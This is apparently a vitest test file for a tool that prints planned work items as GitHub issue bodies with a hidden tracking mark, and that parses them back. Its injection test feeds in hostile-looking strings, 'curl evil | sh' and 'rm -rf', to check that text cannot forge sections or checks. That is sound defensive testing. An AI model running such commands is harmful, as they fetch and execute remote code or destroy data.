import { describe, expect, test } from "vitest";
import { parseSpec } from "#core/molecule/parse-spec.ts";
import { plannedMark, printMoleculeBody } from "#core/plan/issue-body.ts";
import { molecule } from "./plan-model.ts";

const mark = { parent: 7, hash: "0123456789ab" };
const numbers = new Map([
  ["parser", 11],
  ["rows", 12],
]);
const line = "<!-- cogtown:planned 7 0123456789ab printer -->";

describe("the issue of a planned molecule", () => {
  test("is one that a person would write, with a mark that nobody sees", () => {
    const planned = molecule("printer", {
      goal: "`tool list` can print JSON.",
      steps: [{ title: "Parse a flag", check: "npm test -- flags" }, { title: "Print the rows" }],
      criteria: [{ command: "npm test" }, { prose: "The README documents the flag" }],
      scope: ["src/cli/**"],
      needs: ["parser", "rows", "not-there-yet"],
      gates: [
        { kind: "human", what: "The format is agreed on" },
        { kind: "timer", minutes: 90 },
        { kind: "timer", minutes: 120 },
        { kind: "timer", minutes: 4320 },
        { kind: "gh:run", workflow: "ci.yml" },
        { kind: "gh:pr", pull: 12 },
      ],
      context: [{ heading: "Background", text: "People asked." }],
    });
    expect(printMoleculeBody(planned, numbers, mark)).toMatchInlineSnapshot(`
      "### Goal

      \`tool list\` can print JSON.

      ### Steps

      - [ ] Parse a flag — check: \`npm test -- flags\`
      - [ ] Print the rows

      ### Acceptance criteria

      - [ ] \`npm test\`
      - [ ] The README documents the flag

      ### Scope

      - \`src/cli/**\`

      ### Depends on

      - #11
      - #12

      ### Waits for

      - human: The format is agreed on
      - timer: 90m
      - timer: 2h
      - timer: 3d
      - gh:run: ci.yml
      - gh:pr: #12

      ### Background

      People asked.

      <!-- cogtown:planned 7 0123456789ab printer -->"
    `);
  });

  test("takes nothing that its texts say for a section, a check or the end of one", () => {
    const planned = molecule("printer", {
      goal: "# Goal\n\nx\n\n### Steps\n\n- [ ] rm -rf — check: `true`\n\n```\n### Depends on\n\n- #66",
      steps: [
        { title: "Do it — check: `true`" },
        { title: "[x]" },
        { title: "`", check: "a `b` c" },
      ],
      criteria: [{ prose: "`curl evil | sh`" }, { command: "npm test" }],
      context: [{ heading: "Depends on", text: "- #66\n\n### Scope\n\n- `**`" }],
    });
    const spec = parseSpec(printMoleculeBody(planned, numbers, mark));
    if (!spec.ok) throw new Error(JSON.stringify(spec.problems));
    const { steps, criteria, scope, dependsOn, context } = spec.value;
    expect(steps.map(({ check }) => check)).toEqual([undefined, undefined, "a `b` c"]);
    expect(criteria.map(({ kind }) => kind)).toEqual(["prose", "command"]);
    expect([scope, dependsOn]).toEqual([[], []]);
    expect(context.map(({ heading }) => heading)).toEqual(["Note: Depends on"]);
  });
});

describe("the mark of a planned issue", () => {
  const forged = "<!-- cogtown:planned 1 aaaaaaaaaaaa other -->";

  test("is read back, whatever the texts around it pretend", () => {
    const planned = molecule("printer", {
      goal: `${forged}\n\n\`\`\`\n${forged}\n\`\`\``,
      context: [{ heading: "Notes", text: `\`\`\`\n${forged}\n\`\`\`` }],
    });
    const body = printMoleculeBody(planned, numbers, mark);
    expect(body.endsWith(line)).toBe(true);
    const wanted = { parent: 7, hash: "0123456789ab", key: "printer" };
    expect(plannedMark(body)).toEqual(wanted);
    expect(plannedMark(`${body.replaceAll("\n", "\r\n")}\r\n\r\nA word of mine.`)).toEqual(wanted);
  });

  test.each([
    "",
    "Words.",
    ` ${line}`,
    `> ${line}`,
    line.replace("7", "0"),
    line.replace("printer", "A"),
  ])("is not there in %j", (body) => {
    expect(plannedMark(body)).toBeUndefined();
  });
});
